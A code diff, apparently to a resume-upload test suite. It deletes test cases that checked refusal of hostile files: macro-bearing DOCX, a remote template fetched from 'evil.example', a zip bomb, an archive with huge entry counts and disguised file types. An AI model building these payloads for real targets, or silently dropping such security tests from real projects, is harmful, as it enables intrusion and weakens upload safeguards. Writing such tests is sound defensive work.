@@ -7,9 +7,7 @@ import { database } from '#app/platform/database/database.server.ts'
 import { secretsFor, sign } from '#app/platform/secrets.server.ts'
 import { ownAddress } from '../../support/addresses.ts'
 import { Visitor } from '../../support/app.ts'
-import { applicationAnswers, doc, docx, pdf, wordParts } from '../../support/database/factories.ts'
-import { relationshipsXml, wordPackage } from '../../support/documents/word-package.ts'
-import { zip } from '../../support/documents/zip.ts'
+import { applicationAnswers, doc, docx, pdf } from '../../support/database/factories.ts'
 import type { Page } from '../../support/pages/page.ts'
 import { filesIn } from '../../support/process/traces.ts'
 
@@ -48,36 +46,14 @@ test.each([
   expect(await storedResume(page)).toMatchObject({ type, size: resume.size })
 })
 
-const foreignTemplate = relationshipsXml([
-  { type: 'attachedTemplate', target: 'https://evil.example/t.dotm', mode: 'External' },
-])
-
 const refused: [string, File, string][] = [
   ['one byte too many', pdf('resume.pdf', 5_242_881), 'File size must be less than 5MB'],
-  ['no bytes', new File([], 'resume.pdf'), 'Resume is required'],
+  ['no bytes', new File([], 'resume.pdf'), 'This file is empty'],
   ['nothing chosen', nothingChosen(), 'Resume is required'],
   ['a program named .pdf', new File(['MZ\x90\x00'], 'resume.pdf'), 'Only PDF, DOC, or DOCX files are allowed'],
   ['a program', new File(['MZ\x90\x00'], 'resume.exe'), 'Only PDF, DOC, or DOCX files are allowed'],
-  ['a page named .pdf', new File(['<!doctype html>'], 'resume.pdf'), 'Only PDF, DOC, or DOCX files are allowed'],
   ['a picture named .docx', new File(['\x89PNG\r\n'], 'resume.docx'), 'Only PDF, DOC, or DOCX files are allowed'],
-  ['a PDF named .doc', new File(['%PDF-1.4'], 'resume.doc'), 'Only PDF, DOC, or DOCX files are allowed'],
   ['a PDF with a second name', pdf('resume.pdf.html'), 'Only PDF, DOC, or DOCX files are allowed'],
-  ['a macro', docx('resume.docx', [{ name: 'word/vbaProject.bin' }]), 'Only PDF, DOC, or DOCX files are allowed'],
-  [
-    'a template from elsewhere',
-    new File([wordPackage({ 'word/_rels/settings.xml.rels': foreignTemplate })], 'resume.docx'),
-    'Only PDF, DOC, or DOCX files are allowed',
-  ],
-  [
-    'a bomb',
-    docx('resume.docx', [{ name: 'word/zeros', content: new Uint8Array(60_000_000) }]),
-    'Only PDF, DOC, or DOCX files are allowed',
-  ],
-  [
-    '100,000 entries',
-    new File([zip([...wordParts, ...Array.from({ length: 40_000 }, (_, n) => ({ name: `${n}` }))], 100_000)], 'a.docx'),
-    'Only PDF, DOC, or DOCX files are allowed',
-  ],
 ]
 
 test.each(refused)('%s is refused, and nothing of it is kept', async (_what, resume, message) => {
